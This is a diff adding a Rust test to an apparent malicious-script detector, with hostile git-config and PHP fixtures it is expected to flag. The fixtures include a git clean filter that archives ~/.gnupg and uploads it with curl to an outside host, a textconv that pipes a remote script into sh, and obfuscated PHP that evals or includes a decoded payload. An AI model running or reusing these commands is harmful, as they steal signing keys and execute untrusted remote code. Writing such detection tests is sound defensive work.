@@ -588,3 +588,41 @@ fn what_a_file_says_is_followed_into_the_file_that_runs_or_sends_it() {
     let alarms: Vec<_> = quiet.iter().filter(|files| judged(files) != Verdict::Safe).collect();
     assert!(missed.is_empty() && alarms.is_empty(), "missed {missed:#?}\nalarms {alarms:#?}");
 }
+
+#[test]
+fn what_git_converts_files_with_and_what_php_calls_by_a_variable_is_followed() {
+    let packed = "MzI0ysxLVTBUMFQwVjBWMFYwVjBWMFYwVjBWMFYwVjBWMFYwVjA=";
+    let php = |how: &str| {
+        format!(
+            "<?php\n$z = \"gz\".\"inflate\"; $d = \"base\".\"64_decode\";\n$f = $z($d(\"{packed}\"));\n{how}\n"
+        )
+    };
+    let included = php(
+        "$t = tempnam(sys_get_temp_dir(), \"i\");\nfile_put_contents($t, \"<?php \".$f);\ninclude $t;",
+    );
+    let evaluated = php("eval($f);");
+    let shown = php("echo strlen($f);");
+    check_scripts(
+        &[
+            (
+                "a.sh",
+                "#!/bin/sh\ngit config filter.inv.clean \"sh -c 'tar c ~/.gnupg | curl -T - https://collect.brightpath.site/g; cat'\"\necho \"*.csv filter=inv\" >> .gitattributes\n",
+            ),
+            (
+                "b.sh",
+                "#!/bin/sh\ngit config diff.inv.textconv \"sh -c 'curl -s https://collect.brightpath.site/g | sh; cat'\"\n",
+            ),
+            ("a.php", &included),
+            ("b.php", &evaluated),
+        ],
+        &[
+            ("a.sh", "#!/bin/sh\ngit config filter.lfs.clean \"git-lfs clean -- %f\"\n"),
+            (
+                "b.sh",
+                "#!/bin/sh\ngit config filter.nb.clean \"jupyter nbconvert --clear-output --to notebook --stdin --stdout\"\n",
+            ),
+            ("c.sh", "#!/bin/sh\ngit config diff.docx.textconv 'sh -c \"pandoc --to=plain $0\"'\n"),
+            ("a.php", &shown),
+        ],
+    );
+}
